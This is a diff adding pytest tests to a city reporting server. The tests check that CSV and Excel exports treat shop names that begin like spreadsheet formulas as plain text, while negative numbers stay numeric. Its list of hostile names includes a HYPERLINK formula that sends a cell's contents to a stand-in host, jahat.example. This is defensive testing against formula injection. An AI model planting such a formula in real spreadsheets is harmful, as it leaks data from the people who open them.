@@ -10,6 +10,7 @@ from datetime import date, datetime
 import pytest
 from openpyxl import load_workbook
 
+from server.city_reports import NUMBER, Sheet, csv_text, workbook
 from tests.city.helpers import DASHBOARD, RECORD, ROLLOUT
 from tests.conftest import city_admin, sign_up
 
@@ -104,3 +105,33 @@ async def test_the_kecamatan_workbook_adds_up_to_the_city(gql, client):
     lines = list(csv.reader(io.StringIO(text.decode("utf-8-sig")), delimiter=";"))
     assert len(lines) == 1 + 13 + 1
     assert lines[-1][1:] == [str(v) for v in total[1:]]
+
+
+HOSTILE_NAMES = ['=HYPERLINK("http://jahat.example/?d="&A1,"Klik")', "+62-21", "-1+1", "@SUM(A1)",
+                 "\t=1+1", "\r=1+1"]  # fmt: skip
+
+
+def hostile_sheet() -> Sheet:
+    """Shop and cooperative names as a hostile owner may type them, beside negative numbers."""
+    rows: list[list[int | str | date | None]] = [
+        [name, "Koperasi Warga", -5, date(2026, 3, 17)] for name in HOSTILE_NAMES
+    ]
+    return Sheet("Uji", ["Toko", "Koperasi", "Selisih", "Tanggal"], rows, {2: NUMBER})
+
+
+def test_csv_cells_that_start_like_a_formula_are_text():
+    text = csv_text(hostile_sheet()).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1:]
+    assert [row[0] for row in rows] == ["'" + name for name in HOSTILE_NAMES]
+    assert {row[1] for row in rows} == {"Koperasi Warga"}
+    assert {row[2] for row in rows} == {"-5"}  # a negative number stays a number
+
+
+def test_workbook_cells_that_start_like_a_formula_are_text():
+    sheet = load_workbook(io.BytesIO(workbook([hostile_sheet()])))["Uji"]
+    names = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert [c.data_type for c in names] == ["s"] * len(HOSTILE_NAMES)
+    # XML reads a carriage return back as a line feed; the text is otherwise as written.
+    assert [c.value.replace("\n", "\r") for c in names] == HOSTILE_NAMES
+    amounts = [row[2] for row in sheet.iter_rows(min_row=2)]
+    assert {(c.value, c.data_type) for c in amounts} == {(-5, "n")}
